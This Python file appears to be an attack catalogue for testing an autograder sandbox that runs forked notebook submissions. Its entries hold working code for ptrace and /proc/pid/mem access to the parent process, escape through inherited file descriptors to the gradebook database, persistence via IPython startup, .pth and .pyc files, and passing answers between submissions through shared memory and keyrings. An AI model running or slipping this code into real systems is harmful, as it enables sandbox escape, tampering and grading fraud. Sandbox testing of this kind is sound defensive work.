"""Attacks on the process that all submissions are forks of, and on the submissions that come after."""

from functools import partial

from attacks.attack import FIRST, HARMED, LEFT, PAID, TOLD, Attack

later = partial(Attack, family="the warm process and later submissions", seen=TOLD)

LIBC = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
"""
ANSWERS = """
def sigma(z):
    return 1 / (1 + np.exp(-z))

def forward_221(W, b, x):
    z1 = W[1] @ x + b[1]
    z2 = W[2] @ sigma(z1) + b[2]
    return {1: z1, 2: z2}, {0: x, 1: sigma(z1), 2: sigma(z2)}
"""
PLACES = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
folders = ["..", "../..", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/home"]
folders += [os.environ.get(name, "..") for name in ("MPLCONFIGDIR", "IPYTHONDIR", "TMPDIR", "XDG_CACHE_HOME")]
files = [os.path.join(folder, "mkforlater") for folder in folders]
"""

ATTACKS = [
    later(
        name="ptrace",
        gain="It becomes the debugger of its parent, or sees what its memory holds.",
        source=LIBC
        + """
if parent > 0:
    if libc.ptrace(0x4206, parent, 0, 0) == 0:
        granted()
    word = ctypes.create_string_buffer(8)
    piece = (ctypes.c_void_p * 2)(ctypes.addressof(word), 8)
    there = (ctypes.c_void_p * 2)(id(None), 8)
    if libc.process_vm_readv(parent, piece, 1, there, 1, 0) > 0:
        granted()
""",
    ),
    later(
        name="memory of its parent",
        gain="The memory of its parent is opened for writing, as a file.",
        source="""
for pid in {os.getppid(), 1} - {0}:
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
            memory.seek(id(None))
            memory.write(memory.read(1)[:0])
            granted()
    except OSError:
        pass
""",
    ),
    later(
        name="limits of its parent",
        gain="Its parent gets a limit of no time at all, and the lowest priority.",
        source="""
import resource
parent = os.getppid()
if parent > 1:
    try:
        os.setpriority(os.PRIO_PROCESS, parent, 19)
        granted()
    except OSError:
        pass
    try:
        resource.prlimit(parent, resource.RLIMIT_NPROC, (2**14, 2**14))
        granted()
    except OSError:
        pass
""",
    ),
    later(
        name="sockets shut",
        gain="Every socket that was inherited is shut, for all who share it, and made not to wait.",
        seen=HARMED,
        source="""
import socket, stat
for number in range(256):
    try:
        os.set_blocking(number, False)
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            one = socket.socket(fileno=os.dup(number))
            one.sendall(b"f" * 100)
            one.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
""",
    ),
    later(
        name="inherited descriptors",
        gain="A descriptor that was left open leads out of the walls, to a folder or a file.",
        source="""
import stat
for number in range(3, 1024):
    try:
        if stat.S_ISDIR(os.fstat(number).st_mode):
            for way in ("..", "../..", "../../..", "../../../.."):
                if {"gradebook.db", "exercises"} & set(os.listdir(os.open(way, os.O_RDONLY, dir_fd=number))):
                    granted()
        elif stat.S_ISREG(os.fstat(number).st_mode) and b"SQLite" in os.pread(number, 100, 0):
            granted()
    except OSError:
        pass
""",
    ),
    later(
        name="module for the next",
        gain="The module that every notebook imports is replaced in the folder that it is imported from.",
        seen=HARMED,
        source="""
import bpkit.exercise
path = bpkit.exercise.__file__
try:
    if os.path.islink(path):
        os.unlink(path)
        open(path, "w").write("activation = derivative = check = None")
except OSError:
    pass
""",
    ),
    later(
        name="start up for the next",
        gain="Start-up files and settings are left in the folders of IPython and matplotlib.",
        seen=LEFT,
        source="""
import matplotlib
names = ("MARK", "matplotlibrc.MARK", "profile_default/startup/MARK.py", "fontlist-MARK.json")
folders = {os.environ.get(name) for name in ("HOME", "IPYTHONDIR", "TMPDIR")}
for folder in (folders | {matplotlib.get_configdir(), ".."}) - {None}:
    for name in names:
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            open(os.path.join(folder, name), "w").write("raise SystemExit")
        except OSError:
            pass
""",
    ),
    later(
        name="cache for the next",
        gain="Compiled modules are written where Python looks for them, beside the packages.",
        seen=LEFT,
        source="""
packages = os.path.dirname(np.__file__)
for folder in (packages, os.path.dirname(packages), "."):
    for name in ("__pycache__/MARK.pyc", "MARK.py", "MARK.pth"):
        try:
            open(os.path.join(folder, name), "w").write("")
        except OSError:
            pass
""",
    ),
    later(
        name="leaves answers behind",
        gain="Right answers are left in every place that two submissions may share, for another.",
        seen=LEFT,
        source=PLACES
        + f"""
text = {ANSWERS!r}
"""
        + """
for path in files:
    try:
        open(path, "w").write(text)
    except OSError:
        pass
segment = libc.shmget(0x6270, 4096, 0o1666)
if segment >= 0:
    ctypes.memmove(libc.shmat(segment, None, 0), text.encode() + bytes(1), len(text) + 1)
libc.syscall(248, b"user", b"mkforlater", text.encode(), len(text), -4)
""",
    ),
    later(
        name="takes answers along",
        gain="Answers that an earlier submission left are taken from the places that two may share.",
        seen=PAID,
        answers={
            FIRST: "import os, sys\n"
            + PLACES
            + """
for path in files:
    if os.path.exists(path):
        exec(open(path).read())
segment = libc.shmget(0x6270, 0, 0)
if segment >= 0:
    exec(ctypes.string_at(libc.shmat(segment, None, 0)))
key, text = libc.syscall(249, b"user", b"mkforlater", None, -4), ctypes.create_string_buffer(4096)
if key > 0 and libc.syscall(250, 11, key, text, 4096) > 0:
    exec(text.value)
"""
        },
    ),
]
